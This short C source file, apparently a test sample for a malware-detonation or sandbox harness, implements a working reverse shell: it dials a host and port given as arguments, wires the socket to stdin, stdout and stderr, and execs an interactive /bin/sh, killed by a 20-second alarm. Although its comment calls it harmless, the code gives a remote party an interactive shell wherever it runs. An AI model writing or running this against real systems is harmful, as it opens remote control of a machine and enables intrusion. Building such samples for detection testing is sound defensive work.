/* Stand-in reverse shell (detonate test sample; harmless): connects out, puts an interactive
 * shell's stdin, stdout and stderr on the socket. An alarm set before exec survives it, so the
 * shell is killed after 20 s even if the other end never speaks.
 *
 *   revshell HOST PORT
 */
#include "net.h"

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int fd = dial(argv[1], atoi(argv[2]));
    if (fd < 0) return 1;
    struct timeval none = {0, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &none, sizeof none);
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    if (fd > 2) close(fd);
    alarm(20);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    return 127;
}
